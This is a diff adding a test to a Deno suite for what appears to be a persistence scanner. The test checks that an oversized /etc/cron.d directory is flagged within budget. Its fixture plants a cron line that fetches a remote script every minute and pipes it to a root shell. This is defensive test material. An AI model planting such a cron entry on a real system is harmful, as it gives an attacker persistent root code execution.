@@ -5,6 +5,7 @@
  */
 import assert from "node:assert/strict";
 import { PATH_BUDGET } from "../../src/scanners/persistence/assess.ts";
+import { LIMITS } from "../../src/scanners/persistence/collect.ts";
 import { persistence } from "../../src/scanners/persistence/index.ts";
 import { makeTree, runOne } from "../helpers.ts";
 import { exe, fired, withAccounts } from "./persistence_fixtures.ts";
@@ -81,5 +82,20 @@ Deno.test("persistence: a file whose name is not valid UTF-8 is a finding; a nam
     r.findings.some((f) =>
       f.check_id === "persistence.sudoers.nopasswd_all" && String(f.metadata.path).includes("\uFFFD")
     ),
+  );
+});
+
+Deno.test("persistence: a directory past the entry bound is a finding, whichever entries were left out", async () => {
+  using root = makeTree(
+    withAccounts({ "etc/cron.d/zz-planted": "* * * * * root curl -s http://x/y | sh\n" }),
+  );
+  for (let i = 0; i < LIMITS.dirEntries; i++) Deno.writeTextFileSync(`${root.path}/etc/cron.d/pad${i}`, "");
+  const started = performance.now();
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.equal(r.status, "ok", r.reason);
+  assert.ok(performance.now() - started < 25_000, "well inside the scanner's budget");
+  assert.deepEqual(
+    r.findings.filter((f) => f.check_id === "persistence.file.oversized").map((f) => f.metadata.path),
+    ["/etc/cron.d"],
   );
 });
